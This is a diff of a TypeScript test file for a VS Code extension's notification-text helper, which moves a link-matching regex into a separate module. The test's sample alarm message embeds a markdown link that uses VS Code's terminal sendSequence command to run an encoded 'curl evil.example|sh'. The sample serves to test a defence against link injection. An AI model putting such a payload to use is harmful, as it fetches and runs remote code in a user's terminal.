@@ -1,14 +1,6 @@
 import * as assert from 'node:assert/strict';
 import { MAX_QUOTED_LENGTH, notificationMessage, quoted } from '../../../src/core/text/notification';
-
-/**
- * How VS Code finds links in notification messages (`[label](target "title")`, targets http(s),
- * `command:` or `file:`), written out here as the behaviour the helper must defeat.
- * https://github.com/microsoft/vscode/blob/main/src/vs/base/common/linkedText.ts
- */
-const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
-
-const links = (message: string) => [...message.matchAll(NOTIFICATION_LINK)].map((m) => m[2]);
+import { links } from './vscodeSyntax';
 
 describe('notification text from outside', () => {
   const reason = 'Threshold Crossed: 1 datapoint [97.3] was greater than the threshold (90.0). [Open runbook](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)';
